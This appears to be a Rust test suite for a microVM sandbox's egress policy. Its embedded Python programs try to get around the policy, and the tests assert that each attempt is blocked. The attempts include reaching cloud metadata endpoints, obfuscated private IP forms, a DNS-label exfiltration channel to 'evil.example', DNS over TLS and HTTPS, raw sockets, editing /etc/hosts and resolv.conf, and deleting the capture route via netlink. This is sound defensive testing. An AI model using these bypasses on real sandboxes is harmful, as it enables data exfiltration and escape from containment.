//! What code inside reaches of the world, by its policy, on real microVMs.
//!
//! Daemon and VMMs run in a network namespace that the test makes, beside a world that looks like
//! the Internet. What got out is read from the world's own log, and why something did not from the
//! sandbox's.

mod bypasses;
mod faults;
mod tools;
mod world;

use std::collections::BTreeSet;

use emberd_api::{CreateSandbox, EntrySpec, PolicySpec};

use super::{Daemon, code, of_pack, pool};
use world::World;

/// The beginning of every program here.
const PRELUDE: &str = r"
import errno, os, socket, ssl, urllib.request
def web(url, **headers):
    '''What a page says, or why it says nothing.'''
    try:
        request = urllib.request.Request(url, headers=headers)
        with urllib.request.urlopen(request, context=ssl._create_unverified_context()) as page:
            return page.read().decode()
    except urllib.error.HTTPError as e:
        return str(e.code)
    except urllib.error.URLError as e:
        return name(e.reason)
    except OSError as e:
        return name(e)
def name(e):
    if e.errno in (errno.ENOTCONN, errno.EPIPE):
        # The reset came before the program had sent everything.
        return 'ECONNRESET'
    if isinstance(e, socket.gaierror):
        return 'no such name' if e.errno == socket.EAI_NONAME else e.strerror
    return errno.errorcode.get(e.errno, repr(e))
def echo(host, port, data=b'hello'):
    '''What an echo server sends back, or why it does not.'''
    try:
        with socket.create_connection((host, port)) as s:
            s.sendall(data)
            s.shutdown(socket.SHUT_WR)
            with s.makefile('rb') as f:
                return f.read().decode()
    except OSError as e:
        return name(e)
";

/// A policy that allows `entries`.
fn allow(entries: &[&str]) -> PolicySpec {
    let allow = entries.iter().map(|entry| EntrySpec::from(*entry)).collect();
    PolicySpec { allow, ..PolicySpec::default() }
}

async fn create(daemon: &Daemon, pack: &str, egress: PolicySpec) -> String {
    daemon.create_as(&CreateSandbox { egress: Some(egress), ..of_pack(pack) }).await
}

async fn python(daemon: &Daemon, id: &str, program: &str) -> String {
    let outcome = daemon.exec(id, &code(format!("{PRELUDE}{program}"))).await;
    assert_eq!(outcome.exit.exit_code, 0, "{}", outcome.stderr);
    outcome.stdout
}

/// Denials and failures of a sandbox so far, each once: `HOST:PORT REASON`, or `HOST REASON`
/// of a name.
async fn denials(daemon: &Daemon, id: &str) -> BTreeSet<String> {
    let mut denials = BTreeSet::new();
    let mut after = 0;
    loop {
        let page = daemon.client.egress_log(id, after, None, None).await.unwrap();
        if page.records.is_empty() {
            return denials;
        }
        after = page.next;
        for record in page.records {
            let Some(reason) = record.reason else { continue };
            let host = record.host.unwrap_or_default();
            let port = record.port.map(|port| format!(":{port}")).unwrap_or_default();
            denials.insert(format!("{host}{port} {}", reason.name()));
        }
    }
}

fn set(lines: &[&str]) -> BTreeSet<String> {
    lines.iter().map(|line| (*line).to_owned()).collect()
}

/// Reaches what is allowed, and nothing else, from a sandbox of `daemon`.
async fn reaches_what_is_allowed(world: &World, daemon: &Daemon) {
    let id = create(daemon, "python", allow(&["good.example", "also.example:7777"])).await;
    world.reached();
    let told = python(
        daemon,
        &id,
        r"
print(web('http://good.example/'), web('https://good.example/'), echo('good.example', 7777),
      echo('also.example', 7777), sep='\n')
print(web('http://evil.example/'), web('http://45.45.0.2/'), echo('45.45.0.2', 7777),
      web('https://45.45.0.2/'), sep='\n')",
    )
    .await;
    let expect = "hello from 45.45.0.1\nhello from 45.45.0.1\nECONNRESET\nhello\n\
        no such name\n403\nECONNRESET\nECONNRESET\n";
    assert_eq!(told, expect);
    let (connects, queries): (Vec<_>, Vec<_>) =
        world.reached().into_iter().partition(|line| line.starts_with("connect"));
    let expect = ["connect 45.45.0.1 443", "connect 45.45.0.1 7777", "connect 45.45.0.1 80"];
    assert_eq!(connects, expect);
    // The host keeps answers for some seconds.
    let allowed = ["query also.example", "query good.example"];
    assert!(queries.iter().all(|query| allowed.contains(&query.as_str())), "{queries:?}");
    let denied = [
        "good.example:7777 port_not_allowed",
        "evil.example no_rule",
        "45.45.0.2:80 no_rule",
        "45.45.0.2:443 no_rule",
        "45.45.0.2:7777 no_rule",
    ];
    assert_eq!(denials(daemon, &id).await, set(&denied));
    daemon.client.delete(&id).await.unwrap();
}

#[test]
fn cold_boot_reaches_what_is_allowed() {
    World::tell(async |world| {
        let Some(daemon) = Daemon::start(&[]) else { return };
        reaches_what_is_allowed(&world, &daemon).await;
        daemon.stop();
    });
}

#[test]
fn restored_guests_reach_what_is_allowed() {
    World::tell(async |world| {
        let Some(daemon) = Daemon::instant(&["--pool-size", "off"]) else { return };
        daemon.client.build_template("python").await.unwrap();
        for _ in 0..2 {
            reaches_what_is_allowed(&world, &daemon).await;
        }
        daemon.stop();
    });
}

#[test]
fn pooled_guests_reach_what_is_allowed() {
    World::tell(async |world| {
        let Some(daemon) = Daemon::instant(&["--pool-size", "1"]) else { return };
        pool::pool(&daemon, |pool| pool.ready == 1).await;
        reaches_what_is_allowed(&world, &daemon).await;
        pool::pool(&daemon, |pool| pool.handed_out == 1).await;
        daemon.stop();
    });
}

/// Ways to addresses that are never reached, whatever a sandbox's policy allows.
#[test]
fn private_and_own_addresses_are_out_of_reach() {
    World::tell(async |world| {
        let Some(daemon) = Daemon::start(&[]) else { return };
        let everything = allow(&["*:*", "lan.example:*", "meta.example:*", "own.example:*"]);
        let id = create(&daemon, "python", everything).await;
        world.reached();
        let port = daemon.authority.rsplit(':').next().unwrap();
        let program = format!("port = {port}{PRIVATE_AND_OWN}");
        let told = python(&daemon, &id, &program).await;
        let reset = |count| format!("[{}]", vec!["'ECONNRESET'"; count].join(", "));
        let lines: Vec<_> = told.lines().collect();
        assert_eq!(lines[..4], [reset(5), reset(4), reset(6), reset(2)]);
        assert_eq!(lines[4], format!("[{}]", ["'no such name'"; 4].join(", ")));
        let refused = ["'ECONNREFUSED'"; 4].join(", ");
        assert_eq!(lines[5], format!("[{refused}, 'ECONNRESET']"));
        let reached = ["query lan.example", "query meta.example", "query own.example"];
        assert_eq!(world.reached(), reached);
        let denied = denials(&daemon, &id).await;
        for expect in [
            "10.77.0.1:80 private_address",
            "10.77.0.2:80 private_address",
            "169.254.169.254:80 private_address",
            "168.63.129.16:80 private_address",
            "fd00:ec2::254:80 private_address",
            "64:ff9b::a9fe:a9fe:80 private_address",
            "2002:a4d:1:::80 private_address",
            "45.45.9.9:80 own_address",
            "lan.example private_address",
            "meta.example private_address",
            "own.example own_address",
            "metadata.google.internal private_address",
        ] {
            assert!(denied.contains(expect), "{expect} is not in {denied:#?}");
        }
        daemon.stop();
    });
}

/// By number, also in forms that only some programs read; by name; and the daemon itself.
const PRIVATE_AND_OWN: &str = r"
def ends(*addresses, port=80):
    print([echo(a, port) for a in addresses])
ends('10.77.0.1', '10.77.0.2', '192.168.1.1', '172.16.0.1', '100.64.0.1')
ends('169.254.169.254', '168.63.129.16', 'fd00:ec2::254', '64:ff9b::a9fe:a9fe')
ends('::ffff:10.77.0.1', '64:ff9b::a4d:1', '2002:a4d:1::', '0xa.0x4d.1', '10.77.1', '012.0115.0.1')
ends('45.45.9.9', '::ffff:45.45.9.9')
ends('lan.example', 'meta.example', 'own.example', 'metadata.google.internal')
ends('127.0.0.1', '0.0.0.0', 'localhost', '::1', '45.45.9.9', port=port)";

/// Ways out that need no connection, or another name server.
#[test]
fn names_and_datagrams_carry_nothing_out() {
    World::tell(async |world| {
        let Some(daemon) = Daemon::start(&[]) else { return };
        let id = create(&daemon, "python", allow(&["good.example"])).await;
        world.reached();
        let told = python(&daemon, &id, NAMES_AND_DATAGRAMS).await;
        let expect = "(3, 0) (0, 1)\n{(0, 0)}\nTrue\nECONNRESET ECONNRESET ECONNRESET\n\
            ECONNREFUSED ECONNREFUSED\n403 ECONNRESET\n";
        assert_eq!(told, expect);
        assert_eq!(world.reached(), ["query good.example"]);
        let denied = denials(&daemon, &id).await;
        for expect in ["45.45.0.2:853 no_rule", "45.45.0.2:80 no_rule", "45.45.0.2:443 no_rule"] {
            assert!(denied.contains(expect), "{expect} is not in {denied:#?}");
        }
        daemon.stop();
    });
}

const NAMES_AND_DATAGRAMS: &str = r"
import random, struct
def ask(server, name, kind):
    '''The code and the number of answers of a query.'''
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    labels = b''.join(bytes([len(l)]) + l.encode() for l in name.split('.'))
    query = b'\0\1\1\0\0\1\0\0\0\0\0\0' + labels + b'\0' + struct.pack('>HH', kind, 1)
    s.sendto(query, (server, 53))
    answer = s.recv(4096)
    return answer[3] & 15, answer[7]
# Another name server is the same one.
print(ask('45.45.0.2', 'evil.example', 1), ask('10.77.0.1', 'good.example', 1))
# TXT, NULL, MX, SVCB, HTTPS and ANY.
print({ask('10.77.0.1', 'secret.good.example', kind) for kind in (16, 10, 15, 64, 65, 255)})
# Labels as a channel: they do not exist, or are too many.
codes = {ask('10.77.0.1', random.randbytes(16).hex() + '.evil.example', 1)[0] for _ in range(200)}
print(codes <= {2, 3})
# DNS over TLS, and over HTTPS by number.
print(echo('45.45.0.2', 853), echo('45.45.0.1', 853), web('https://45.45.0.2/dns-query'))
# QUIC, other datagrams, ICMP, raw sockets, SCTP.
def sent(kind, protocol, port):
    try:
        s = socket.socket(socket.AF_INET, kind, protocol)
        s.settimeout(1)
        s.connect(('45.45.0.2', port))
        s.send(b'\x08\0\xf7\xfe\0\1\0\0')
        return bool(s.recv(100))
    except OSError as e:
        return name(e)
print(sent(socket.SOCK_DGRAM, 0, 443), sent(socket.SOCK_DGRAM, 0, 123))
for kind, protocol in (socket.SOCK_RAW, 1), (socket.SOCK_RAW, 255), (socket.SOCK_STREAM, 132):
    # Some are answered by the guest itself, whose address that is.
    sent(kind, protocol, 0)
# A name of the program's own making.
with open('/etc/hosts', 'a') as f:
    f.write('45.45.0.2 good.example\n')
print(web('http://good.example/'), web('https://good.example/'))";

/// A guest that takes its own plumbing apart loses its way out, and no other does.
#[test]
fn only_the_guest_that_undoes_the_capture_loses_it() {
    World::tell(async |world| {
        let Some(daemon) = Daemon::start(&[]) else { return };
        let one = create(&daemon, "python", allow(&["good.example"])).await;
        let other = create(&daemon, "python", allow(&["good.example"])).await;
        world.reached();
        let told = python(&daemon, &one, UNDONE).await;
        assert_eq!(told.lines().next(), Some("0"), "{told}");
        assert!(!told.contains("hello"), "{told}");
        let reached = world.reached();
        assert!(!reached.iter().any(|line| line.contains("connect")), "{reached:?}");
        let told = python(&daemon, &other, "print(web('http://good.example/'))").await;
        assert_eq!(told, "hello from 45.45.0.1\n");
        assert_eq!(python(&daemon, &one, "print('alive')").await, "alive\n");
        daemon.stop();
    });
}

/// Removes the route that captures, then names another resolver.
const UNDONE: &str = r"
import struct
s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
RTM_DELROUTE, REQUEST_ACK = 25, 5
body = struct.pack('=8BI', socket.AF_INET, 0, 0, 0, 254, 0, 254, 2, 0)
s.send(struct.pack('=IHHII', 16 + len(body), RTM_DELROUTE, REQUEST_ACK, 1, 0) + body)
print(struct.unpack_from('=i', s.recv(4096), 16)[0])
print(web('http://good.example/'), echo('45.45.0.2', 80), echo('10.77.0.1', 80))
open('/etc/resolv.conf', 'w').write('nameserver 45.45.0.2\n')
print(web('http://good.example/'))";
